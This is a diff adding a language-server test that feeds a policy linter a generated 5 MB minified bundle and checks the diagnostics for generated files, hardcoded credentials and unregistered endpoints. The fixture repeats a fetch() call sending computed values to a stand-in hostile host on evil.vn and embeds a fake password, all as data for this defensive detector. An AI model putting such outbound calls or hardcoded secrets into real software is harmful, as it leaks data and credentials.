@@ -38,3 +38,29 @@ describe.skipIf(process.platform === 'win32' || !fs.existsSync('/dev/zero'))('la
     }
   });
 });
+
+describe('language server and a 5 MB generated document (issue 14, item 4)', () => {
+  it('checks it with the cheap rules and says so, keystroke after keystroke', async () => {
+    const ws = makeWorkspace({ 'popdb-policy.yaml': POLICY, 'src/lookup.ts': LOOKUP });
+    const parts: string[] = [];
+    for (let i = 0, size = 0; size < 5 * 1024 * 1024; i++) {
+      const p = `function a${i}(b){var c=b+${i};if(c>3){return fetch("https://lgsp-gw.evil.vn/dancu/v1/x"+c)}return c}`;
+      parts.push(p);
+      size += p.length;
+    }
+    const text = `var password="Zq8vKp2mWx9rLt4nB7";${parts.join(';')}\n`;
+    const client = await LspClient.start({ workspace: ws });
+    try {
+      const file = path.join(ws, 'public/bundle.js');
+      const first = await client.open(file, text);
+      expect(first.map((d) => d.message).join('\n')).toContain('generated or minified file');
+      expect(first.map((d) => d.code)).toContain('popdb/no-hardcoded-credentials');
+      const second = await client.change(file, text.replace('Zq8vKp2mWx9rLt4nB7', 'Zq8vKp2mWx9rLt4nB8'));
+      expect(second.map((d) => d.code)).toContain('popdb/no-hardcoded-credentials');
+      // the rest of the workspace is still checked as usual
+      expect((await client.open(path.join(ws, 'src/lookup.ts'))).map((d) => d.code)).toContain('popdb/no-unregistered-endpoint');
+    } finally {
+      await client.shutdown();
+    }
+  });
+});
